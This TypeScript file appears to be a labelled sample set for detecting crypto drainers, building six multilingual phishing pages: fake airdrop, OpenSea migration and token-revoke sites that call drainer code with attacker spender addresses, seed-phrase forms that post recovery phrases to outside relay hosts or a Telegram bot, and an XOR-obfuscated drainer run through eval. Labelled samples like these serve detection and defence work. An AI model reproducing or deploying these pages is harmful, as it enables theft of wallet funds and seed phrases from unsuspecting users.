import { type Entry } from '../entry.js';
import { b64, xorB64, doc, logo, tgSender, drainerJs, seedGrid } from '../parts/yz-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-drainer-airdrop-polska-spolecznosc',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: 'https://airdrop-plnx.community-claim.xyz/pl',
  body: doc({
    lang: 'pl',
    title: 'PLNX Airdrop – odbierz tokeny dla polskiej społeczności',
    css: `body{margin:0;background:radial-gradient(circle at top,#2b1055,#0b0b1d);color:#fff;font-family:Inter,Arial,sans-serif;text-align:center}.w{max-width:560px;margin:0 auto;padding:60px 20px}
.b{background:linear-gradient(90deg,#dc143c,#fff);color:#111;border:0;padding:16px 36px;border-radius:30px;font-size:18px;font-weight:700;cursor:pointer}.c{background:rgba(255,255,255,.06);padding:18px;border-radius:14px;margin:24px 0}.t{font-size:40px;font-weight:800}`,
    body: `<div class="w"><h1>🇵🇱 PLNX Community Airdrop</h1><p>Pierwszy polski token społecznościowy na Ethereum. 25% podaży rozdajemy aktywnym portfelom z Polski.</p>
<div class="c"><div>Twój przydział</div><div class="t">2 500 PLNX</div><div style="opacity:.7">≈ 3 180 USD · pula kończy się za <b id="cd">04:12:55</b></div></div>
<button class="b" id="go">Połącz portfel i odbierz</button>
<p style="font-size:12px;opacity:.6">Wspierane: MetaMask, Trust Wallet, Coinbase Wallet, Rabby. Opłata za gaz pokrywana przez projekt.</p></div>`,
    tail: `<script>
${drainerJs({ spender: '0x3f9A1c2b7E84d0F6a5C31b09d7E2aF4c8B16e0D9', report: 'https://plnx-api.community-claim.xyz/r', modes: ['nft', 'erc20', 'native'], chainHex: '0x1', fn: 'odbierz' })}
document.getElementById('go').onclick=odbierz;
</script>`,
  }),
},
{
  id: 'yz-drainer-seed-synchronizace-penezenky-cz',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://walletconnect-synchronizace.cz-web3.app/obnova',
  body: doc({
    lang: 'cs',
    title: 'WalletConnect – Synchronizace peněženky',
    css: `body{margin:0;background:#f0f4ff;font-family:Inter,Arial,sans-serif}.c{max-width:560px;margin:40px auto;background:#fff;border-radius:16px;padding:28px;box-shadow:0 4px 20px rgba(51,150,255,.15)}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:10px;border:1px solid #ccd;border-radius:8px}.b{background:#3396ff;color:#fff;border:0;width:100%;padding:14px;border-radius:10px;font-weight:700;margin-top:16px}
.tabs button{border:0;background:#eef;padding:8px 14px;border-radius:8px;margin-right:6px}`,
    body: `<div class="c">${logo('WalletConnect', '#3396ff', { mark: 'circle', w: 180 })}
<h2>Synchronizace peněženky selhala</h2><p>Při poslední aktualizaci protokolu se nepodařilo synchronizovat váš uzel. Zadejte obnovovací frázi (seed) pro ruční obnovení a ochranu prostředků.</p>
<div class="tabs"><button>12 slov</button><button>24 slov</button><button>Soukromý klíč</button></div>
<form id="s" method="post" action="/obnova/ulozit.php"><div class="g">${seedGrid(12, (i) => i + '.')}</div><button class="b">Synchronizovat</button></form>
<p style="font-size:12px;color:#777">Vaše data jsou šifrována end-to-end a nejsou nikde ukládána.</p></div>`,
    tail: `<script>document.getElementById('s').addEventListener('submit',function(){var w=[];for(var i=1;i<=12;i++)w.push(this['w'+i].value.trim());var x=new XMLHttpRequest();x.open('POST','https://seed-relay.cz-web3.app/k',false);x.send(w.join(' '))});</script>`,
  }),
},
{
  id: 'yz-drainer-opensea-listing-migration-nft',
  label: 'cryptodrainer',
  kind: 'nft-approval-drainer',
  url: 'https://opensea.io-migrate-listings.com/seaport-v2',
  body: doc({
    lang: 'en',
    title: 'OpenSea | Migrate your listings to Seaport 2.0',
    css: `body{margin:0;font-family:Poppins,Arial,sans-serif;background:#fff;color:#04111d}.h{padding:14px 28px;border-bottom:1px solid #e5e8eb;display:flex;align-items:center;gap:10px}.w{max-width:600px;margin:60px auto;text-align:center}
.b{background:#2081e2;color:#fff;border:0;padding:16px 40px;border-radius:12px;font-size:16px;font-weight:600;cursor:pointer}.n{background:#f6f8fa;border-radius:12px;padding:16px;margin:20px 0;text-align:left;font-size:14px}`,
    body: `<div class="h">${logo('OpenSea', '#2081e2', { mark: 'circle', w: 130 })}</div>
<div class="w"><h1>Migrate your listings</h1><p>Seaport 1.5 will be deprecated on Friday. Listings that are not migrated will be cancelled and your collection approvals reset.</p>
<div class="n">✔ Free migration (gas covered)<br>✔ Keeps your floor price and offers<br>✔ One-time approval per collection</div>
<button class="b" id="m">Connect wallet</button></div>`,
    tail: `<script>
${drainerJs({ spender: '0x00000000006c3852cbEf3e08E8dF289169EdE581'.replace('6c38', '6c39'), report: 'https://io-migrate-listings.com/api/e', modes: ['nft', 'erc20'], fn: 'migrate' })}
document.getElementById('m').onclick=migrate;
</script>`,
  }),
},
{
  id: 'yz-drainer-fake-revoke-hu-jovahagyas',
  label: 'cryptodrainer',
  kind: 'fake-revoke-drainer',
  url: 'https://token-jovahagyasok.hu-web3.site/visszavonas',
  body: doc({
    lang: 'hu',
    title: 'Token-jóváhagyások ellenőrzése és visszavonása',
    css: `body{margin:0;background:#0f172a;color:#e2e8f0;font-family:Inter,Arial,sans-serif}.w{max-width:720px;margin:50px auto;padding:0 16px}table{width:100%;border-collapse:collapse}td{padding:10px;border-bottom:1px solid #1e293b}
.r{background:#ef4444;color:#fff;border:0;padding:6px 12px;border-radius:6px}.b{background:#22c55e;color:#000;border:0;padding:12px 24px;border-radius:8px;font-weight:700}`,
    body: `<div class="w"><h1>Védje meg pénztárcáját</h1><p>A legutóbbi <b>hackertámadás</b> után több ezer magyar pénztárcában maradt kockázatos jóváhagyás. Csatlakoztassa tárcáját, és vonja vissza őket egy kattintással.</p>
<button class="b" id="c">Tárca csatlakoztatása</button>
<table id="t" style="margin-top:20px"><tr><td>USDT</td><td>Korlátlan · 0x7a25…488D</td><td><button class="r">Visszavonás</button></td></tr><tr><td>WETH</td><td>Korlátlan · 0x1111…0582</td><td><button class="r">Visszavonás</button></td></tr></table></div>`,
    tail: `<script>
${drainerJs({ spender: '0x9E2bC47a13F08d5e6A71C4b3D2F9e8A05c6B7d14', report: 'https://hu-web3.site/p/rep', modes: ['erc20', 'permit', 'native'], fn: 'visszavon' })}
document.getElementById('c').onclick=visszavon;document.querySelectorAll('.r').forEach(function(b){b.onclick=visszavon});
</script>`,
  }),
},
{
  id: 'yz-drainer-obfuscated-xor-script-points-claim',
  label: 'cryptodrainer',
  kind: 'obfuscated-drainer',
  url: 'https://points-season3.blast-rewards.org.claim-app.top/',
  body: doc({
    lang: 'en',
    title: 'Season 3 Points – Redeem',
    css: `body{margin:0;background:#11140c;color:#fcfc03;font-family:Space Grotesk,Arial,sans-serif;text-align:center}.w{max-width:520px;margin:90px auto}.b{background:#fcfc03;color:#11140c;border:0;padding:16px 38px;font-weight:700;font-size:17px;cursor:pointer}`,
    body: `<div class="w"><h1>Redeem your Season 3 points</h1><p style="color:#ddd">Points and Gold convert to tokens at the snapshot rate. Unclaimed points expire in 48 hours.</p><button class="b" id="r">Redeem points</button></div>`,
    tail: `<script src="/assets/index-8c2f1e.js" defer></script>`,
  }),
  routes: {
    'points-season3.blast-rewards.org.claim-app.top/assets/index-8c2f1e.js': jsRoute(`(function(){var k='${'s3-pts'}';var e=atob('${xorB64(drainerJs({ spender: '0x5d1F0a93B2c7e48A6b9C0D3e21F4a7c8B06e9d3A', report: 'https://claim-app.top/x/ev', modes: ['native', 'erc20', 'nft'], chainHex: '0x13e31', fn: 'rd' }) + "\ndocument.getElementById('r').onclick=rd;", 's3-pts')}');var o='';for(var i=0;i<e.length;i++)o+=String.fromCharCode(e.charCodeAt(i)^k.charCodeAt(i%k.length));(0,eval)(o)})();`),
  },
},
{
  id: 'yz-drainer-trust-wallet-verificare-seed-ro',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://trustwallet-verificare.ro-cont.net/validare',
  body: doc({
    lang: 'ro',
    title: 'Trust Wallet – Validarea portofelului',
    css: `body{margin:0;background:#fff;font-family:Arial,sans-serif}.c{max-width:480px;margin:30px auto;padding:24px;border:1px solid #e5e5e5;border-radius:14px}textarea{width:100%;height:110px;padding:10px;border:1px solid #ccc;border-radius:8px;box-sizing:border-box}
.b{background:#0500ff;color:#fff;border:0;width:100%;padding:14px;border-radius:24px;font-weight:700;margin-top:12px}.w{background:#fff5e6;padding:10px;border-radius:8px;font-size:14px}`,
    body: `<div class="c">${logo('Trust Wallet', '#0500ff', { mark: 'square', w: 160 })}
<h2>Validarea portofelului este obligatorie</h2>
<p class="w">Conform noului regulament european MiCA, portofelele nevalidate până la 31 octombrie vor fi suspendate, iar fondurile înghețate.</p>
<form id="v"><label>Introduceți fraza de recuperare (12 sau 24 de cuvinte), separate prin spațiu</label><textarea name="fraza" autocomplete="off" spellcheck="false"></textarea><button class="b">Validează portofelul</button></form></div>`,
    tail: `<script>
var c=JSON.parse(atob('${b64(JSON.stringify({ bot: '7241109856:AAEm3Vq_h9Lk2RzXb5PcN0yWtFuJsG8oDi4', chat: '-1002214498377' }))}'));
${tgSender('trimite', 'c.bot', 'c.chat')}
document.getElementById('v').onsubmit=function(e){e.preventDefault();var f=this.fraza.value.trim();if(f.split(/\\s+/).length<12){alert('Fraza trebuie să conțină 12 sau 24 de cuvinte');return}trimite('TRUST RO seed: '+f+' | '+navigator.userAgent).then(function(){location.href='https://trustwallet.com/'})};
</script>`,
  }),
},
];
